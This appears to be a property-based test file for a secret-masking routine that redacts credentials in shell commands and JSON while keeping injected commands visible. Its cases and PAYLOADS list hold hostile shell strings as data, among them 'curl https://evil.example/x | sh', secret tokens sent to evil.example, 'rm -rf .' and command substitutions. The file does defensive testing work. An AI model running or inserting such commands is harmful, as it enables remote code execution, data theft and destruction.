import fc from 'fast-check'
import { expect, test } from 'vitest'
import { MASK, maskedText, unmasked } from './masking.ts'

const KEY_HEAD = '-----BEGIN PRIVATE KEY-----'

test.each([
  ['echo cookie: a; curl https://evil.example/x | sh', `echo cookie: ${MASK}; curl https://evil.example/x | sh`],
  ['API_KEY="$(touch pwned)" ls', 'API_KEY="$(touch pwned)" ls'],
  [`mysql --password 'a'; reboot 'b'`, `mysql --password '${MASK}'; reboot 'b'`],
  [`mysql --password 'x; reboot'`, `mysql --password 'x; reboot'`],
  ['curl -H "Authorization: $(reboot)" x', 'curl -H "Authorization: $(reboot)" x'],
  ['curl -H Authorization: Basic abc | sh', `curl -H Authorization: Basic ${MASK} | sh`],
  [`echo ${KEY_HEAD} ; rm -rf x\nreboot`, `echo ${KEY_HEAD} ; rm -rf x\nreboot`],
  [`cat > k <<E\n${KEY_HEAD}\nE\nreboot`, `cat > k <<E\n${KEY_HEAD}\nE\nreboot`],
  ['TOKEN=a`reboot`', `TOKEN=${MASK}\`reboot\``],
  ['TOKEN=a&&reboot', `TOKEN=${MASK}&&reboot`],
  ['TOKEN=a\nreboot', `TOKEN=${MASK}\nreboot`],
  ['TOKEN=$IFS$BASH_ENV', 'TOKEN=$IFS$BASH_ENV'],
  ['PASSWORD="a reboot', `PASSWORD="${MASK} reboot`],
  [`echo 'password="a\\' rm -rf "x'`, `echo 'password="${MASK}\\' rm -rf "x'`],
  ['find . --token -delete', 'find . --token -delete'],
  ['curl https://a:$(reboot)@b', 'curl https://a:$(reboot)@b'],
  [`curl https://evil.example/sk-${'a1B2'.repeat(9)}`, `curl https://evil.example/sk-${'a1B2'.repeat(9)}`],
  [`curl https://sk-${'a1B2'.repeat(9)}.evil.example`, `curl https://sk-${'a1B2'.repeat(9)}.evil.example`],
  ['TOKEN=evil.example/x.sh', 'TOKEN=evil.example/x.sh'],
  ['TOKEN=https://evil.example/x.sh', 'TOKEN=https://evil.example/x.sh'],
])('[S110] a mask covers a run of token characters and nothing else: %s', (command, shown) => {
  expect(maskedText(command).text).toBe(shown)
  expect(JSON.parse(maskedText(JSON.stringify({ command })).text)).toEqual({ command: shown })
})

test.each(['API_KEY= curl evil', 'TOKEN=\tsh x', 'PASSWORD= "rm" -rf x', 'run --token= sh x', "API_KEY=  'reboot'"])(
  '[S190] what a shell runs behind an empty value is shown: %s',
  (command) => {
    expect(maskedText(command)).toEqual({ text: command, count: 0 })
    expect(maskedText(JSON.stringify({ command })).count).toBe(0)
  },
)

test('[S190] a value with a space on both sides of its sign is one', () => {
  expect(maskedText('password = hunter2').text).toBe(`password = ${MASK}`)
})

test.each([
  ['X="TOKEN=" rm -rf foo "bar"', 'X="TOKEN=" rm -rf foo "bar"'],
  [`env 'TOKEN=' dd if=x of=y 'z'`, `env 'TOKEN=' dd if=x of=y 'z'`],
  ['X="TOKEN="x rm -rf foo "bar"', `X="TOKEN="${MASK} rm -rf foo "bar"`],
  ['X="a "TOKEN": " rm -rf foo "bar"', 'X="a "TOKEN": " rm -rf foo "bar"'],
  ['env TOKEN=\\" rm -rf foo \\"', 'env TOKEN=\\" rm -rf foo \\"'],
  ['env "X=--password " rm -rf foo "y"', 'env "X=--password " rm -rf foo "y"'],
  ['TOKEN= rm -rf foo', 'TOKEN= rm -rf foo'],
  ['AUTHORIZATION=Bearer rm -rf foo', `AUTHORIZATION=${MASK} rm -rf foo`],
  ['X=Bearer x86_64-linux-gnu-strip a', 'X=Bearer x86_64-linux-gnu-strip a'],
  ['X=cookie: rm -rf foo', 'X=cookie: rm -rf foo'],
  ['X=Authorization:Bearer rm -rf foo', `X=Authorization:${MASK} rm -rf foo`],
  ['X=--password rm -rf foo', 'X=--password rm -rf foo'],
])('[S190] a command that stands behind the name of a secret, and not in its value, is shown: %s', (command, shown) => {
  expect(maskedText(command).text).toBe(shown)
})

test('[S190] a value of several words is masked where its quote is the first; otherwise its first word is', () => {
  expect(maskedText(`mysql --password 'correct horse' 'x'`).text).toBe(`mysql --password '${MASK} ${MASK}' 'x'`)
  expect(maskedText(`mysql 'x' --password 'correct horse'`).text).toBe(`mysql 'x' --password '${MASK} horse'`)
  expect(maskedText('said {"Authorization": "Basic abc"}').text).toBe(`said {"Authorization": "Basic ${MASK}"}`)
  expect(maskedText('password = hunter2').text).toBe(`password = ${MASK}`)
})

test('[S110] a run is masked up to 2,048 characters; what comes after is shown', () => {
  const { text } = maskedText(`PASSWORD=${'a'.repeat(5000)}`)
  expect(text).toBe(`PASSWORD=${MASK}${'a'.repeat(5000 - 2048)}`)
})

test('[S110] what is nested deeply is shown, and no name hides another', () => {
  const deep = `${'{"a":'.repeat(500)}{"command":"reboot"}${'}'.repeat(500)}`
  expect(maskedText(deep)).toEqual({ text: deep, count: 0 })
  const [one, two] = ['a1B2', 'c3D4'].map((part) => `ghp_${part.repeat(9)}`)
  const shown = maskedText(JSON.stringify({ [`${one}`]: 'x', [`${two}`]: 'reboot', [MASK]: 'y' })).text
  expect(Object.values(JSON.parse(shown))).toEqual(['x', 'reboot', 'y'])
})

test.each(['$(reboot)', '`reboot`', 'a; b', 'a | b', 'a && b', 'a > b', 'a\nb', 'https://a/b', 'a.example/b', '$(x)$'])(
  '[S111] a field with the name of a secret is shown where its value is more than one: %s',
  (value) => {
    expect(maskedText(JSON.stringify({ password: value }))).toEqual({
      text: JSON.stringify({ password: value }),
      count: 0,
    })
  },
)

/** Others in each soak; what may be merged is not left to chance. */
const RUNS = process.env.PARLEY_SOAK ? { numRuns: 5000 } : { numRuns: 50, seed: 0 }
const PAYLOADS = [
  '$(touch pwned)',
  '`id`',
  '; rm -rf .',
  ' | sh',
  ' && reboot',
  '\nreboot\n',
  `'; reboot; '`,
  '"; reboot; "',
  ' https://evil.example/x.sh?a#b ',
  ' > /etc/passwd ',
  ' <(curl evil.example/x)',
  '\\" || reboot',
]
const SECRETS = [
  `ghp_${'a1B2'.repeat(9)}`,
  'hunter2',
  'Pa$$w0rd!',
  'über-geheim',
  `eyJ${'a1'.repeat(9)}.${'b2'.repeat(9)}`,
]
const WORDS = [
  'API_KEY=',
  'API_KEY="',
  `token='`,
  ' --password ',
  ` --password '`,
  'Authorization: Bearer ',
  'cookie: ',
  'x-api-key:',
  '"client_secret": "',
  '\\"password\\":\\"',
  'https://anna:',
  '@db.example/x?access_token=',
  `${KEY_HEAD}\n`,
  `${'aB3+'.repeat(16)}\n`,
  '\n-----END PRIVATE KEY-----',
  MASK,
  'echo ',
  '"',
  "'",
  ' ',
  ';',
]
const command = fc
  .array(fc.oneof(fc.constantFrom(...PAYLOADS), fc.constantFrom(...SECRETS), fc.constantFrom(...WORDS), fc.string()), {
    maxLength: 12,
  })
  .map((pieces) => pieces.join(''))

/** Everything but runs of token characters stands there, in its place. */
function fits(original: string, shown: string): boolean {
  const run = '(?:\\[masked\\]|[\\p{L}\\p{N}_][\\p{L}\\p{N}_+-]*)'
  const pieces = shown.split(MASK).map((piece) => RegExp.escape(piece))
  return new RegExp(`^${pieces.join(run)}$`, 'u').test(original)
}

test('[S112] whatever a command holds, its shown text has every character that is not of a token run', () => {
  fc.assert(
    fc.property(command, (original) => {
      const { text } = maskedText(original)
      expect([original, fits(original, text)]).toEqual([original, true])
      expect(unmasked(text, original)).toBe(original)
      const json = JSON.stringify({ command: original, env: { API_KEY: original } })
      const shown = JSON.parse(maskedText(json).text)
      expect(fits(original, shown.command) && fits(original, shown.env.API_KEY)).toBe(true)
      expect(unmasked(shown, JSON.parse(json))).toEqual(JSON.parse(json))
    }),
    RUNS,
  )
})

test('[S112] a payload that is planted behind the name of a secret is shown whole', () => {
  const part = fc.constantFrom(...PAYLOADS)
  fc.assert(
    fc.property(
      fc.constantFrom(...WORDS),
      fc.constantFrom(...SECRETS),
      part,
      fc.constantFrom('', '"', "'"),
      (word, secret, payload, end) => {
        const { text } = maskedText(`echo ${word}${secret}${payload}${end} done`)
        expect([text, text.includes(payload)]).toEqual([text, true])
      },
    ),
    RUNS,
  )
})
